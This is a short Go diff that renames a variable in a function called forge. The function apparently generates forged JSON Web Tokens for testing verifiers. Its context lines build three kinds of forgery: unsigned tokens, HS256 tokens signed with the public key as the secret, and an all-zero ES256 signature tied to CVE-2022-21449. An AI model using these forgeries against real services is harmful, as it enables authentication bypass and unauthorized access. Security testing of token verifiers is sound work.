@@ -158,10 +158,10 @@ func forge(claims map[string]any, published []map[string]any) ([]forgery, error)
 		return nil, err
 	}
 	var kid any = "prove"
-	var real map[string]any
+	var known map[string]any
 	for _, jwk := range published {
-		if real == nil || jwk["alg"] == "ES256" {
-			real, kid = jwk, jwk["kid"]
+		if known == nil || jwk["alg"] == "ES256" {
+			known, kid = jwk, jwk["kid"]
 		}
 	}
 	head := func(alg string, more ...any) map[string]any {
@@ -177,7 +177,7 @@ func forge(claims map[string]any, published []map[string]any) ([]forgery, error)
 		raw := unsigned(head(alg), claims) + "."
 		out = append(out, forgery{fmt.Sprintf("alg %q without a signature", alg), raw})
 	}
-	for i, secret := range publicKeyTexts(real) {
+	for i, secret := range publicKeyTexts(known) {
 		out = append(out, forgery{fmt.Sprintf("HS256 with the public key as its secret (%d)", i), hmacSigned(head("HS256"), claims, secret)})
 	}
 	zero := unsigned(head("ES256"), claims) + "." + b64(make([]byte, 64)) // CVE-2022-21449
